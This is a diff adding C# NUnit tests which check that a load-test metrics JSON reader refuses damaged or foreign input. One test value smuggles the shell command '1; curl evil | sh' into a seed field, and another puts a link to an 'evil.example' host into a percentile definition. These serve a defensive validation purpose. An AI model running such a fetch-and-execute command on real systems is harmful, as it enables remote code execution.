@@ -71,9 +71,43 @@ internal sealed class MetricsJsonTests
     [TestCase("""{ "schemaVersion": "2" }""")]
     [TestCase("""{ "schemaVersion": 2 }""")]
     [TestCase("""{ "schemaVersion": 1 }""")]
+    [TestCase("""{ "schemaVersion": 2, "schemaVersion": 2 }""")]
     [TestCase("""{ "schemaVersion": 2, "header": """)]
     public void Read_DamagedDocument_IsRefusedWithARemedy(string json)
         => Assert.That(() => MetricsJson.Read(json), Throws.TypeOf<MetricsFormatException>().With.Message.Contains("LoadTest"));
+
+    [TestCase("load", "seed", "1; curl evil | sh")]
+    [TestCase("load", "seed", "-1")]
+    [TestCase("percentiles", "definition", "R7, see [here](http://evil.example)")]
+    [TestCase("percentiles", "definition", "R1\n")]
+    public void Read_ForeignTextWhereReportsShowAWordOfOurs_IsRefused(string section, string name, string text)
+    {
+        var document = JsonNode.Parse(MetricsJson.Write(Runs.Document(Runs.One())))!;
+        document[section]![name] = text;
+
+        Assert.That(() => MetricsJson.Read(document.ToJsonString()), Throws.TypeOf<MetricsFormatException>().With.Message.Contains("LoadTest").And.Message.Not.Contains("evil"));
+    }
+
+    [TestCase("overall", "evil")]
+    [TestCase("routes", "evil")]
+    [TestCase("seconds", "evil")]
+    [TestCase("overall", "success")]
+    public void Read_KindOfFailureThatThereIsNot_IsRefused(string place, string kind)
+    {
+        var document = JsonNode.Parse(MetricsJson.Write(Runs.Document(Runs.One())))!;
+        (document[place] is JsonArray list ? list[^1]! : document[place]!)["failuresByKind"]![kind] = 1;
+
+        Assert.That(() => MetricsJson.Read(document.ToJsonString()), Throws.TypeOf<MetricsFormatException>().With.Message.Contains("LoadTest").And.Message.Not.Contains("evil"));
+    }
+
+    [Test]
+    public void Read_NothingWhereARouteShouldBe_IsRefused()
+    {
+        var document = JsonNode.Parse(MetricsJson.Write(Runs.Document(Runs.One())))!;
+        document["routes"]![0] = null;
+
+        Assert.That(() => MetricsJson.Read(document.ToJsonString()), Throws.TypeOf<MetricsFormatException>());
+    }
 
     [Test]
     public void Save_ExistingFile_IsReplacedAndLeavesNothingElse()
